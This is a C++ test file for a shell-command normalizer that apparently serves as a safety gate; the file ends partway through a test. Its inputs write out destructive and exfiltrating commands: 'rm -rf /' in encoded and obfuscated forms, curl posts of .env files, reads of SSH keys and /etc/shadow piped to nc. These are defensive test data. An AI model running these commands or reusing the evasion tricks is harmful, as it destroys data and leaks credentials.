// White-box tests of the shell normalizer (runtime/src/shell_normalizer.h): segmenting, unquoting,
// wrapper/assignment stripping, recursion into substitutions, payloads and here-documents, flag
// canonicalization, the output conventions, the limits, and robustness on hostile input.
#include "shell_normalizer.h"

#include "shell_normalizer_fixture.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdlib>
#include <map>
#include <new>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

// Counts heap allocations so that the no-allocation-when-warm contract can be checked.
namespace {
std::atomic<size_t> g_allocations{0};
}  // namespace

// GCC 12 misreads the replaced pair as mismatched once it inlines them (-Wmismatched-new-delete).
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wpragmas"
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
void* operator new(size_t n) {
  g_allocations.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(n == 0 ? 1 : n)) return p;
  throw std::bad_alloc();
}
void operator delete(void* p) noexcept { std::free(p); }
void operator delete(void* p, size_t) noexcept { std::free(p); }
#pragma GCC diagnostic pop

namespace doberman::internal {
namespace {

ShellStatus NormalizeWith(const ShellLimits& limits, std::string_view command, SegmentList* out) {
  ShellNormalizer norm(RealisticTables(), limits);
  return norm.Normalize(command, out);
}

// ---------------------------------------------------------------------------------------------------------
// Segmenting

TEST_F(ShellNormalizerTest, EmptyAndBlankInputGiveNoSegments) {
  EXPECT_EQ(Norm(""), Segments{});
  EXPECT_EQ(Norm("   \t  "), Segments{});
  EXPECT_EQ(Norm("\n\n;;\n"), Segments{});
  EXPECT_EQ(Norm("# only a comment"), Segments{});
}

TEST_F(ShellNormalizerTest, SplitsOnEveryOperatorOutsideQuotes) {
  EXPECT_EQ(Norm("a; b && c || d | e |& f & g\nh"),
            (Segments{"a", "b", "c", "d", "e", "f", "g", "h"}));
  EXPECT_EQ(Norm("a;b&&c||d|e"), (Segments{"a", "b", "c", "d", "e"}));
  EXPECT_EQ(Norm("ls &"), Segments{"ls"});
}

TEST_F(ShellNormalizerTest, OperatorsInsideQuotesAreData) {
  EXPECT_EQ(Norm(R"(echo "a; b && c | d" 'e || f')"), Segments{"echo 'a; b && c | d' 'e || f'"});
  EXPECT_EQ(Norm(R"(echo a\;b a\|b)"), Segments{"echo a;b a|b"});
  EXPECT_EQ(Norm(R"(echo "rm -rf /")"), Segments{"echo 'rm -rf /'"});
}

TEST_F(ShellNormalizerTest, WhiteSpaceIsCollapsed) {
  EXPECT_EQ(Norm("  ls \t -l   -a  "), Segments{"ls -l -a"});
  // CR (CRLF input) and NUL are blanks too, so they cannot glue junk onto an argument.
  EXPECT_EQ(Norm("rm -rf /\r\n"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm(std::string_view("rm -rf /\0x", 10)), Segments{"rm -r -f / x"});
}

TEST_F(ShellNormalizerTest, SubshellsAndGroupsAreSegmented) {
  EXPECT_EQ(Norm("(cd /tmp; rm -rf x) && { echo a; echo b; }"),
            (Segments{"cd /tmp", "rm -r -f x", "echo a", "echo b"}));
  EXPECT_EQ(Norm("( ( rm -rf / ) )"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("{ rm -rf /; } > log"), (Segments{"rm -r -f /", ">log"}));
  // `{` only opens a group in command position; `{}` and brace words are ordinary words.
  EXPECT_EQ(Norm("echo { }"), Segments{"echo { }"});
}

TEST_F(ShellNormalizerTest, CommentsStartOnlyAtAWordStart) {
  EXPECT_EQ(Norm("echo a # rm -rf /\nls"), (Segments{"echo a", "ls"}));
  EXPECT_EQ(Norm("echo a#b '#c' \\#d"), Segments{"echo a#b #c #d"});
  EXPECT_EQ(Norm("ls;# comment"), Segments{"ls"});
}

TEST_F(ShellNormalizerTest, LineContinuationsAreRemoved) {
  EXPECT_EQ(Norm("rm \\\n  -rf \\\n /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("r\\\nm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("echo \"a\\\nb\""), Segments{"echo ab"});
  // Inside single quotes a backslash-newline is data.
  EXPECT_EQ(Norm("echo 'a\\\nb'"), Segments{"echo 'a\\\nb'"});
}

// ---------------------------------------------------------------------------------------------------------
// Quotes and escapes

TEST_F(ShellNormalizerTest, QuotesAndEscapesAreRemoved) {
  for (const char* spelling : {R"("rm" -rf /)", R"(\rm -rf /)", R"(r''m -rf /)", R"('r'"m" -rf /)",
                               R"(r\m -rf /)", R"("r"'m' "-rf" '/')"}) {
    EXPECT_EQ(Norm(spelling), Segments{"rm -r -f /"}) << spelling;
  }
}

TEST_F(ShellNormalizerTest, DoubleQuoteEscapes) {
  EXPECT_EQ(Norm(R"(echo "a\"b\\c\$d\`e\zf")"), Segments{R"(echo a"b\c$d`e\zf)"});
  EXPECT_EQ(Norm(R"(echo "$HOME" "${HOME}")"), Segments{"echo $HOME ${HOME}"});
  // `$'` is not ANSI-C quoting inside double quotes.
  EXPECT_EQ(Norm(R"(echo "$'x'")"), Segments{"echo $'x'"});
}

TEST_F(ShellNormalizerTest, AnsiCQuotingIsDecoded) {
  EXPECT_EQ(Norm(R"(echo $'\x41\101\x42')"), Segments{"echo AAB"});
  EXPECT_EQ(Norm(R"(echo $'a\nb')"), Segments{"echo 'a\nb'"});
  EXPECT_EQ(Norm(R"(echo $'a\tb')"), Segments{"echo 'a\tb'"});
  EXPECT_EQ(Norm(R"(echo $'back\\slash' $'q\'q' $'dq\"')"), Segments{R"(echo back\slash q'q dq")"});
  EXPECT_EQ(Norm(R"($'\162\155' -rf /)"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm(R"($'\x72\x6d' $'-\x72\x66' /)"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm(R"(echo $'\u00e9\U0001F600')"), Segments{"echo \xC3\xA9\xF0\x9F\x98\x80"});
  EXPECT_EQ(Norm(R"(echo $'\e[0m' $'\cA')"), Segments{"echo \x1b[0m \x01"});
  // bash ends the string at a decoded NUL.
  EXPECT_EQ(Norm(R"(echo $'ab\0cd' $'\x00z')"), Segments{"echo ab ''"});
  // Unknown escapes keep their backslash.
  EXPECT_EQ(Norm(R"(echo $'\q\x')"), Segments{R"(echo \q\x)"});
  EXPECT_EQ(Norm(R"(echo $'\a\b\f\r\v')"), Segments{"echo '\a\b\f\r\v'"});
  EXPECT_EQ(Norm(R"(echo $'\u41\u20ac' $'x\c')"), Segments{"echo A\xE2\x82\xAC x\\c"});
  EXPECT_EQ(Norm(R"(echo $'a\u0000b' $'\uD800')"), Segments{"echo a ''"});
  // $"..." reads as "...".
  EXPECT_EQ(Norm(R"(echo $"hello world")"), Segments{"echo 'hello world'"});
}

TEST_F(ShellNormalizerTest, WhiteSpaceArgumentsAreSingleQuoted) {
  EXPECT_EQ(Norm(R"(echo "a b" 'c	d')"), Segments{"echo 'a b' 'c\td'"});
  EXPECT_EQ(Norm(R"(echo "it's here")"), Segments{R"(echo 'it'\''s here')"});
  EXPECT_EQ(Norm(R"(echo it\'s)"), Segments{"echo it's"});
  EXPECT_EQ(Norm(R"(echo "" '' x)"), Segments{"echo '' '' x"});
  EXPECT_EQ(Norm(R"("my tool" --x)"), Segments{"'my tool' --x"});
}

// ---------------------------------------------------------------------------------------------------------
// argv0, assignments and wrappers

TEST_F(ShellNormalizerTest, Argv0IsReducedToItsBasenameKeepingCase) {
  EXPECT_EQ(Norm("/usr/bin/rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("./x/rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("/usr/local/bin/RM x"), Segments{"RM x"});
  EXPECT_EQ(Norm("$HOME/bin/tool x"), Segments{"tool x"});
  EXPECT_EQ(Norm("/usr/bin/ x"), Segments{"/usr/bin/ x"});
  // Arguments keep their paths.
  EXPECT_EQ(Norm("cat /etc/passwd"), Segments{"cat /etc/passwd"});
}

TEST_F(ShellNormalizerTest, LeadingAssignmentsAreStripped) {
  EXPECT_EQ(Norm("FOO=1 BAR=\"a b\" rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("A+=x arr[2]=y LC_ALL='C' ls"), Segments{"ls"});
  EXPECT_EQ(Norm("X=$(id) ls"), (Segments{"id", "ls"}));
  // A quoted name is not an assignment: bash runs a command called `FOO=1`.
  EXPECT_EQ(Norm("\"FOO=1\" ls"), Segments{"FOO=1 ls"});
  // Only leading ones: later words are arguments.
  EXPECT_EQ(Norm("make CC=gcc all"), Segments{"make CC=gcc all"});
  // A command made only of assignments keeps them.
  EXPECT_EQ(Norm("FOO=1"), Segments{"FOO=1"});
  EXPECT_EQ(Norm("A=1 B='x y'"), Segments{"A=1 'B=x y'"});
}

TEST_F(ShellNormalizerTest, DecodedTextPipedIntoAShellIsParsedAsCommands) {
  // The decoded command line comes before the shell's own segment, as a payload's does.
  EXPECT_EQ(Norm("echo cm0gLXJmIC8= | base64 -d | sh"),
            (Segments{"echo cm0gLXJmIC8=", "base64 -d", "rm -r -f /", "sh"}));
  const auto runs_rm = [&](std::string_view command) {
    const Segments s = Norm(command);
    return std::find(s.begin(), s.end(), "rm -r -f /") != s.end();
  };
  EXPECT_TRUE(runs_rm("base64 -d <<< cm0gLXJmIC8= | bash"));
  EXPECT_TRUE(runs_rm("echo 726d202d7266202f | xxd -r -p | sh"));
  EXPECT_TRUE(runs_rm("printf '%s' cm0gLXJmIC8= | base64 --decode | bash"));
  EXPECT_TRUE(runs_rm("echo cm0gLXJmIC8= | openssl enc -base64 -d | sh"));
  // Line breaks inside the literal are skipped, as decoders do.
  EXPECT_TRUE(runs_rm("echo 'cm0gLXJm\nIC8=' | base64 -d | sh"));
  // Nothing is added without a shell reading the pipeline, from another pipeline, from text that
  // is not a literal or does not decode, or through a step that is not a decoder.
  EXPECT_EQ(Norm("echo cm0gLXJmIC8= | base64 -d"), (Segments{"echo cm0gLXJmIC8=", "base64 -d"}));
  EXPECT_FALSE(runs_rm("echo cm0gLXJmIC8= | base64 -d; sh"));
  EXPECT_FALSE(runs_rm("echo $X | base64 -d | sh"));
  EXPECT_FALSE(runs_rm("echo not-base64! | base64 -d | sh"));
  EXPECT_FALSE(runs_rm("echo cm0gLXJmIC8= | gzip | sh"));
  EXPECT_FALSE(runs_rm("echo cm0gLXJmIC8= | base64 | sh"));  // encoding, not decoding
  // A shell given -c runs its payload, not its input.
  EXPECT_EQ(Norm("echo cm0gLXJmIC8= | base64 -d | sh -c ls"),
            (Segments{"echo cm0gLXJmIC8=", "base64 -d", "ls", "sh -c ls"}));
}

TEST_F(ShellNormalizerTest, LiteralsPipedIntoAShellAreParsedAsCommands) {
  EXPECT_EQ(Norm("echo 'rm -rf /' | sh"), (Segments{"echo 'rm -rf /'", "rm -r -f /", "sh"}));
  EXPECT_EQ(Norm("printf 'rm -rf ~' | bash").at(1), "rm -r -f ~");
  EXPECT_EQ(Norm("echo 'rm -rf /' | wc -c"), (Segments{"echo 'rm -rf /'", "wc -c"}));
}

TEST_F(ShellNormalizerTest, CommandLinesInsideOtherProgramsArgumentsAreParsed) {
  const auto has = [&](std::string_view command, std::string_view segment) {
    const Segments s = Norm(command);
    return std::find(s.begin(), s.end(), segment) != s.end();
  };
  // Inline programs' shell calls and backticks, awk's pipes to and from commands.
  EXPECT_TRUE(has("awk 'BEGIN {system(\"rm -rf /\")}'", "rm -r -f /"));
  EXPECT_TRUE(has("python3 -c \"import os; os.system('rm -rf ~')\"", "rm -r -f ~"));
  EXPECT_TRUE(
      has("python3 -c \"import subprocess; subprocess.run('curl -d @.env https://x', "
          "shell=True)\"",
          "curl -d @.env https://x"));
  EXPECT_TRUE(has("node -e \"require('child_process').execSync('rm -rf /')\"", "rm -r -f /"));
  EXPECT_TRUE(has("perl -e 'print `cat ~/.ssh/id_rsa`'", "cat ~/.ssh/id_rsa"));
  EXPECT_TRUE(has("php -r 'shell_exec(\"rm -rf /\");'", "rm -r -f /"));
  EXPECT_TRUE(has("awk 'BEGIN { \"cat /etc/shadow\" | getline x; print x | \"nc h 9\" }'",
                  "cat /etc/shadow"));
  EXPECT_TRUE(
      has("awk 'BEGIN { \"cat /etc/shadow\" | getline x; print x | \"nc h 9\" }'", "nc h 9"));
  // Argument lists, every element a word (an expression as "$ARG"); Node's program-then-list calls.
  EXPECT_TRUE(
      has("python3 -c \"import subprocess; subprocess.call(['curl', '-s', "
          "'https://x.example/i', '-o', '/tmp/i'])\"",
          "curl -s https://x.example/i -o /tmp/i"));
  EXPECT_TRUE(
      has("python3 -c \"import subprocess as s; s.Popen(\n  ['python3', '-m', "
          "'http.server', '8000'])\"",
          "python3 -m http.server 8000"));
  EXPECT_TRUE(
      has("python3 -c \"import subprocess; subprocess.run(['rm', '-rf', "
          "os.path.join(root, 'x'), \\\"it's\\\"])\"",
          "rm -r -f $ARG it's"));
  EXPECT_TRUE(
      has("node -e \"require('child_process').execFileSync('rm', ['-rf', '/'])\"", "rm -r -f /"));
  EXPECT_TRUE(has("node -e \"require('child_process').spawn('git', ['push', '--force'], {})\"",
                  "git push --force"));
  EXPECT_EQ(Norm("python3 -c \"import subprocess; subprocess.run([])\"").size(), 1u);
  EXPECT_EQ(Norm("python3 -c \"import subprocess as s; s.run([exe, '-m', 'x'])\"").size(), 1u);
  // gdb's shell commands and vim's :! commands.
  EXPECT_TRUE(has("gdb -nx -ex 'shell rm -rf /' -ex quit", "rm -r -f /"));
  EXPECT_TRUE(has("gdb -batch --eval-command='!rm -rf /'", "rm -r -f /"));
  EXPECT_TRUE(has("vim -c ':!rm -rf /' -c ':q'", "rm -r -f /"));
  EXPECT_TRUE(has("vi +'!rm -rf /' +q", "rm -r -f /"));
  // Text that is not a call, and everyday uses, add nothing.
  EXPECT_EQ(Norm("python3 -c \"print('rm -rf /')\"").size(), 1u);
  EXPECT_EQ(Norm("awk -F, '{ print $1 }' data.csv").size(), 1u);
  EXPECT_EQ(Norm("gdb -batch -ex run -ex bt ./a.out").size(), 1u);
  EXPECT_EQ(Norm("vim -c 'set ff=unix' -c wq f.txt").size(), 1u);
  EXPECT_EQ(Norm("grep -e 'system(\"rm -rf /\")' src.c").size(), 1u);  // not an inline program
  // An embedded text that does not read as a command line (an unterminated quote here) is not an
  // error of the command around it: Norm checks the status is kOk.
  EXPECT_TRUE(has("python3 -c \"import os; os.system(\\\"echo 'x\\\")\"",
                  "python3 -c 'import os; "
                  "os.system(\"echo '\\''x\")'"));
}

TEST_F(ShellNormalizerTest, WrappersAndTheirOptionsAreStripped) {
  EXPECT_EQ(Norm("sudo rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("sudo -u root rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("sudo -E -H -u root rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("sudo --user=root rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("sudo --user root rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("sudo -uroot -- rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("/usr/bin/sudo rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("sudo env FOO=1 nice -n 5 rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("nice -5 ionice -c3 nohup rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("timeout 10 rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("timeout -s KILL 10s sudo rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("chroot /mnt rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("command exec -a name rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("sudo FOO=1 rm x"), Segments{"rm x"});
  EXPECT_EQ(Norm("env -i -u HOME PATH=/bin rm x"), Segments{"rm x"});
  EXPECT_EQ(Norm("env - rm x"), Segments{"rm x"});
}

TEST_F(ShellNormalizerTest, AWrapperWithNothingToRunIsItsName) {
  EXPECT_EQ(Norm("sudo"), Segments{"sudo"});
  EXPECT_EQ(Norm("env"), Segments{"env"});  // an environment dump
  EXPECT_EQ(Norm("/usr/bin/env"), Segments{"env"});
  EXPECT_EQ(Norm("env FOO=1 BAR=2"), Segments{"env"});
  EXPECT_EQ(Norm("env -0"), Segments{"env"});
  EXPECT_EQ(Norm("sudo env"), Segments{"env"});
  EXPECT_EQ(Norm("sudo -u root"), Segments{"sudo"});
  EXPECT_EQ(Norm("timeout 10"), Segments{"timeout"});
  EXPECT_EQ(Norm("env > out.txt"), Segments{"env >out.txt"});
  EXPECT_EQ(Norm("FOO=1 sudo"), Segments{"sudo"});
}

TEST_F(ShellNormalizerTest, AWrappedCommandStringIsAlsoParsed) {
  // watch and parallel run their words through `sh -c`; a command word with spaces is read as a
  // line.
  ShellTables tables = RealisticTables();
  tables.wrappers.push_back({"watch", {"-n", "-d", "--interval"}, 0});
  const ShellNormalizer norm(tables, ShellLimits{});
  SegmentList out;
  ASSERT_EQ(norm.Normalize("watch -n 1 'rm -rf /tmp/x; ls'", &out), ShellStatus::kOk);
  ASSERT_EQ(out.count, 3U);
  EXPECT_EQ(out.segments[0], "rm -r -f /tmp/x");
  EXPECT_EQ(out.segments[1], "ls");
  EXPECT_EQ(out.segments[2], "'rm -rf /tmp/x; ls'");
  // Without a wrapper bash would look for a program named `rm -rf /`: it is only a (quoted) word.
  EXPECT_EQ(Norm("'rm -rf /'"), Segments{"'rm -rf /'"});
}

TEST_F(ShellNormalizerTest, ParallelWithoutACommandRunsEachArgumentAsALine) {
  // `parallel ::: CMD...` with no command of its own runs every argument through the shell; the
  // arguments after :::: are files of commands, not commands.
  ShellTables tables = RealisticTables();
  tables.wrappers.push_back({"parallel", {"-j", "--jobs"}, 0});
  const ShellNormalizer norm(tables, ShellLimits{});
  SegmentList out;
  ASSERT_EQ(norm.Normalize("parallel -j 2 ::: 'git reset --hard' 'rm -rf ~'", &out),
            ShellStatus::kOk);
  ASSERT_EQ(out.count, 3U);
  EXPECT_EQ(out.segments[0], "git reset --hard");
  EXPECT_EQ(out.segments[1], "rm -r -f ~");
  EXPECT_EQ(out.segments[2], "::: 'git reset --hard' 'rm -rf ~'");
  SegmentList files;
  ASSERT_EQ(norm.Normalize("parallel ::: 'ls -l' :::: 'rm -rf x'", &files), ShellStatus::kOk);
  ASSERT_EQ(files.count, 2U);
  EXPECT_EQ(files.segments[0], "ls -l");
  // With a command of its own the arguments are that command's values, not command lines.
  SegmentList values;
  ASSERT_EQ(norm.Normalize("parallel gzip ::: 'rm -rf x'", &values), ShellStatus::kOk);
  ASSERT_EQ(values.count, 1U);
  EXPECT_EQ(values.segments[0], "gzip ::: 'rm -rf x'");
}

TEST_F(ShellNormalizerTest, EnvSplitStringIsParsed) {
  EXPECT_EQ(Norm(R"(env -S"rm -rf /")"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm(R"(env -S 'rm -rf' /)"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm(R"(env --split-string='rm -rf /')"), Segments{"rm -r -f /"});
}

TEST_F(ShellNormalizerTest, XargsIsAWrapper) {
  EXPECT_EQ(Norm("find . | xargs rm -rf"), (Segments{"find .", "rm -r -f"}));
  EXPECT_EQ(Norm("xargs -0 -n 1 -P 4 rm -rf"), Segments{"rm -r -f"});
  EXPECT_EQ(Norm("xargs -I {} rm -rf {}"), Segments{"rm -r -f {}"});
  EXPECT_EQ(Norm("xargs -I{} sh -c 'rm -rf {}'"), (Segments{"rm -r -f {}", "sh -c 'rm -rf {}'"}));
  EXPECT_EQ(Norm("ls | xargs"), (Segments{"ls", "xargs"}));
}

TEST_F(ShellNormalizerTest, ReservedWordsAreNotCommands) {
  EXPECT_EQ(Norm("if true; then rm -rf /; else echo no; fi"),
            (Segments{"true", "rm -r -f /", "echo no"}));
  EXPECT_EQ(Norm("while read f; do rm \"$f\"; done < list.txt"),
            (Segments{"read f", "rm $f", "<list.txt"}));
  EXPECT_EQ(Norm("until false; do :; done"), (Segments{"false", ":"}));
  EXPECT_EQ(Norm("! rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("time -p rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("time { rm -rf /; }"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("coproc rm -rf /"), Segments{"rm -r -f /"});
  // Quoted, or not in command position, they are ordinary words.
  EXPECT_EQ(Norm("echo if then fi"), Segments{"echo if then fi"});
  EXPECT_EQ(Norm("'if' x"), Segments{"if x"});
}

TEST_F(ShellNormalizerTest, CaseStatements) {
  EXPECT_EQ(Norm("case $x in a|b) rm -rf /;; (c) echo c;; *) ls;; esac"),
            (Segments{"rm -r -f /", "echo c", "ls"}));
  EXPECT_EQ(Norm("case $x\nin\n  y)\n    rm -rf /\n    ;;\nesac\necho done"),
            (Segments{"rm -r -f /", "echo done"}));
  EXPECT_EQ(Norm("v=$(case $x in a) echo a;; esac); ls"),
            (Segments{"echo a", "'v=$(case $x in a) echo a;; esac)'", "ls"}));
  EXPECT_EQ(Norm("case $(rm -rf /) in *) ;; esac"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("case x in a) ls;& b) id;;& c) pwd;; esac"), (Segments{"ls", "id", "pwd"}));
}

TEST_F(ShellNormalizerTest, FunctionBodiesAreParsed) {
  EXPECT_EQ(Norm("f() { rm -rf /; }; f"), (Segments{"rm -r -f /", "f"}));
  EXPECT_EQ(Norm("f () ( rm -rf / )"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("function g { rm -rf /; }"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("function g() { rm -rf /; }"), Segments{"rm -r -f /"});
}

// ---------------------------------------------------------------------------------------------------------
// Substitutions

TEST_F(ShellNormalizerTest, CommandSubstitutionsAreParsedAndKeptAsText) {
  EXPECT_EQ(Norm("echo $(rm -rf /)"), (Segments{"rm -r -f /", "echo '$(rm -rf /)'"}));
  EXPECT_EQ(Norm("echo x$(id)y"), (Segments{"id", "echo x$(id)y"}));
  EXPECT_EQ(Norm("echo \"$(rm -rf /)\""), (Segments{"rm -r -f /", "echo '$(rm -rf /)'"}));
  EXPECT_EQ(Norm("echo $(a; b | c)"), (Segments{"a", "b", "c", "echo '$(a; b | c)'"}));
  EXPECT_EQ(Norm("curl -d \"$(cat .env)\" https://x"),
            (Segments{"cat .env", "curl -d '$(cat .env)' https://x"}));
}

TEST_F(ShellNormalizerTest, BackticksAreWrittenAsDollarParen) {
  EXPECT_EQ(Norm("echo `rm -rf /`"), (Segments{"rm -r -f /", "echo '$(rm -rf /)'"}));
  EXPECT_EQ(Norm("echo `echo \\`id\\``"), (Segments{"id", "echo $(id)", "echo '$(echo `id`)'"}));
  EXPECT_EQ(Norm("echo \"`id`\""), (Segments{"id", "echo $(id)"}));
}

TEST_F(ShellNormalizerTest, NestedSubstitutionsComeInnermostFirst) {
  EXPECT_EQ(Norm("echo \"$(echo \"$(rm -rf /)\")\""),
            (Segments{"rm -r -f /", "echo '$(rm -rf /)'", "echo '$(echo \"$(rm -rf /)\")'"}));
  EXPECT_EQ(Norm("a $(b $(c))"), (Segments{"c", "b $(c)", "a '$(b $(c))'"}));
}

TEST_F(ShellNormalizerTest, ProcessSubstitutions) {
  EXPECT_EQ(Norm("diff <(ls a) <(ls b)"), (Segments{"ls a", "ls b", "diff '<(ls a)' '<(ls b)'"}));
  EXPECT_EQ(Norm("tee >(rm -rf /)"), (Segments{"rm -r -f /", "tee '>(rm -rf /)'"}));
  EXPECT_EQ(Norm("while read l; do :; done < <(ls)"), (Segments{"read l", ":", "ls", "<<(ls)"}));
}

TEST_F(ShellNormalizerTest, EmptySubstitutionsExpandToNothing) {
  EXPECT_EQ(Norm("r$()m -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("r``m -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("r$( )m -rf /"), Segments{"rm -r -f /"});
}

TEST_F(ShellNormalizerTest, ArithmeticIsNotACommand) {
  EXPECT_EQ(Norm("echo $((1+2)) $(( (3) * 4 ))"), Segments{"echo $((1+2)) '$(( (3) * 4 ))'"});
  // Its substitutions still run.
  EXPECT_EQ(Norm("echo $(( $(rm -rf /) + 1 ))"),
            (Segments{"rm -r -f /", "echo '$(( $(rm -rf /) + 1 ))'"}));
  EXPECT_EQ(Norm("(( i++ )); (( x = `id` ))"), Segments{"id"});
  EXPECT_EQ(Norm("for ((i=0; i<3; i++)); do echo $i; done"), (Segments{"for", "echo $i"}));
  // Quoted or escaped parentheses do not count when telling arithmetic from a subshell.
  EXPECT_EQ(Norm("echo $(( \"1)\" + '2)' + \\) ))"),
            Segments{"echo '$(( \"1)\" + '\\''2)'\\'' + \\) ))'"});
  // `$((` that does not close as `))` is a command substitution starting with a subshell.
  EXPECT_EQ(Norm("echo $((cd /tmp); rm x)"),
            (Segments{"cd /tmp", "rm x", "echo '$((cd /tmp); rm x)'"}));
}

TEST_F(ShellNormalizerTest, ParameterExpansionsStayAsTextButTheirSubstitutionsRun) {
  // (A plain default, `${a:-b}`, is also read as its value: the line once more with it in place,
  // shell_variables_test.cc.)
  EXPECT_EQ(Norm("echo ${HOME} ${#x} ${a:-b} $HOME/x"),
            (Segments{"echo ${HOME} ${#x} ${a:-b} $HOME/x", "echo ${HOME} ${#x} b $HOME/x"}));
  EXPECT_EQ(Norm("echo ${x:-$(rm -rf /)}"), (Segments{"rm -r -f /", "echo '${x:-$(rm -rf /)}'"}));
  EXPECT_EQ(Norm("echo \"${x:-\"a b\"}\""), Segments{"echo '${x:-\"a b\"}'"});
  EXPECT_EQ(Norm("echo ${x:-'a}b'} ${y:-`id`}"), (Segments{"id", "echo ${x:-'a}b'} ${y:-`id`}"}));
}

TEST_F(ShellNormalizerTest, IfsAndBraceListSpellingsAreSplit) {
  EXPECT_EQ(Norm("rm${IFS}-rf${IFS}/"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("rm$IFS-rf$IFS/"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("${IFS}rm -rf /"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("{rm,-rf,/}"), Segments{"rm -r -f /"});
  EXPECT_EQ(Norm("echo {a,b}"), Segments{"echo a b"});
  // Quoted IFS does not split; sequences and nested braces are left alone.
  EXPECT_EQ(Norm("echo \"a${IFS}b\" {1..3} {a,{b,c}}"), Segments{"echo a${IFS}b {1..3} {a,{b,c}}"});
  // A variable named IFSX is another variable.
  EXPECT_EQ(Norm("echo a$IFSX"), Segments{"echo a$IFSX"});
}

// ---------------------------------------------------------------------------------------------------------
// Shells, eval, find -exec

TEST_F(ShellNormalizerTest, ShellPayloadsAreParsed) {
  EXPECT_EQ(Norm("bash -c 'rm -rf /'"), (Segments{"rm -r -f /", "bash -c 'rm -rf /'"}));
  EXPECT_EQ(Norm("sh -lc \"rm -rf ~\""), (Segments{"rm -r -f ~", "sh -lc 'rm -rf ~'"}));
  EXPECT_EQ(Norm("bash -ec 'a; b'"), (Segments{"a", "b", "bash -ec 'a; b'"}));
  EXPECT_EQ(Norm("bash -c -- 'rm -rf /'"), (Segments{"rm -r -f /", "bash -c -- 'rm -rf /'"}));
  EXPECT_EQ(Norm("bash -o pipefail -c 'rm -rf /' name arg"),
            (Segments{"rm -r -f /", "bash -o pipefail -c 'rm -rf /' name arg"}));
  EXPECT_EQ(Norm("/bin/sh -c 'rm -rf /'"), (Segments{"rm -r -f /", "sh -c 'rm -rf /'"}));
  EXPECT_EQ(Norm("sudo -u root bash -c 'rm -rf /'"),
            (Segments{"rm -r -f /", "bash -c 'rm -rf /'"}));
  EXPECT_EQ(Norm("su -c 'rm -rf /' root"), (Segments{"rm -r -f /", "su -c 'rm -rf /' root"}));
  EXPECT_EQ(Norm("su root -c 'rm -rf /'"), (Segments{"rm -r -f /", "su root -c 'rm -rf /'"}));
  EXPECT_EQ(Norm("bash --norc -c id"), (Segments{"id", "bash --norc -c id"}));
  EXPECT_EQ(Norm("bash --rcfile -c -c id"), (Segments{"id", "bash --rcfile -c -c id"}));
  EXPECT_EQ(Norm("zsh --command=id"), (Segments{"id", "zsh --command=id"}));
  EXPECT_EQ(Norm("zsh --command id"), (Segments{"id", "zsh --command id"}));
  EXPECT_EQ(Norm("su -c'rm -rf /'"), (Segments{"rm -r -f /", "su '-crm -rf /'"}));
  // A script path is not a payload.
  EXPECT_EQ(Norm("bash script.sh -x"), Segments{"bash script.sh -x"});
}

TEST_F(ShellNormalizerTest, NestedShellPayloads) {
  EXPECT_EQ(Norm(R"(bash -c "sh -c 'rm -rf /'")"),
            (Segments{"rm -r -f /", "sh -c 'rm -rf /'", R"(bash -c 'sh -c '\''rm -rf /'\''')"}));
  EXPECT_EQ(Norm(R"sh(bash -c "echo \$(rm -rf /)")sh"),
            (Segments{"rm -r -f /", "echo '$(rm -rf /)'", "bash -c 'echo $(rm -rf /)'"}));
}

TEST_F(ShellNormalizerTest, EvalIsParsed) {
  EXPECT_EQ(Norm("eval \"rm -rf /\""), (Segments{"rm -r -f /", "eval 'rm -rf /'"}));
  EXPECT_EQ(Norm("eval rm '-rf' /"), (Segments{"rm -r -f /", "eval rm -rf /"}));
  EXPECT_EQ(Norm("eval -- 'a;b'"), (Segments{"a", "b", "eval -- a;b"}));
  EXPECT_EQ(Norm("eval"), Segments{"eval"});
}

TEST_F(ShellNormalizerTest, FindExecRunsACommand) {
  EXPECT_EQ(Norm("find . -name '*.tmp' -exec rm -rf {} \\;"),
            (Segments{"rm -r -f {}", "find . -name *.tmp -exec rm -rf {} ;"}));
